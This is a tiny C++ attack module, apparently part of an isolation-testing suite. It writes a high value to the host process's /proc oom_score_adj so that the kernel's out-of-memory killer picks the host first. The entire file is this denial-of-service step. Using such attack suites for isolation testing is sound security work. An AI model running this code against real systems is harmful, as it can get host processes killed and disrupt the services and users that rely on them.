// Proposes the host as the first to die when memory gets scarce.
#include "../attack.h"

#include <fstream>
#include <string>

static void attack() {
    std::ofstream("/proc/" + std::string(target("host_pid")) + "/oom_score_adj") << 987;
}
